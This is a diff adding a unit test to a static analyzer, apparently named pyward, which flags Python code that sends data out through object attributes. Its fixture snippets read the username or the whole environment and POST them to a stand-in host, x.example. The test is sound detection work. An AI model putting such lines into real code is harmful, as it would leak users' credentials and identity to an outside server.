@@ -200,5 +200,43 @@ TEST(ObjectFlows, NetworkDataFollowsSelfOnlyWithinOneMethod) {
   EXPECT_EQ(Find(client, "download-exec"), nullptr) << Names(client);
 }
 
+TEST(ObjectFlows, InstancesOutsideTheClassAndObjectsSentWhole) {
+  // An instance's attribute read outside the class.
+  auto fs = Analyze(
+      "import getpass, requests\n"
+      "class Info:\n"
+      "    def fill(self):\n"
+      "        self.user = getpass.getuser()\n"
+      "g = Info()\ng.fill()\n"
+      "requests.post('https://x.example/', data=g.user)\n");
+  const Finding* f = Find(fs, "exfiltration");
+  ASSERT_NE(f, nullptr) << Names(fs);
+  EXPECT_NE(f->message.find("self.user"), std::string::npos) << f->message;
+  EXPECT_EQ(f->phase, Phase::kImport);
+  // The object as a whole: vars(self), g.__dict__.
+  for (const char* send : {"requests.post('https://x.example/', json=vars(self))",
+                           "requests.post('https://x.example/', json=self.__dict__)"}) {
+    auto whole = Analyze(std::string("import os, requests\n"
+                                     "class S:\n"
+                                     "    def a(self):\n"
+                                     "        self.env = dict(os.environ)\n"
+                                     "    def b(self):\n"
+                                     "        ") +
+                         send + "\n");
+    EXPECT_NE(Find(whole, "exfiltration"), nullptr) << send << "\n" << Names(whole);
+  }
+  // Another object of another class is not that object.
+  auto other = Analyze(
+      "import getpass, requests\n"
+      "class Info:\n"
+      "    def fill(self):\n"
+      "        self.user = getpass.getuser()\n"
+      "class Page:\n"
+      "    user = 'guest'\n"
+      "p = Page()\n"
+      "requests.post('https://x.example/', data=p.user)\n");
+  EXPECT_EQ(Find(other, "exfiltration"), nullptr) << Names(other);
+}
+
 }  // namespace
 }  // namespace pyward
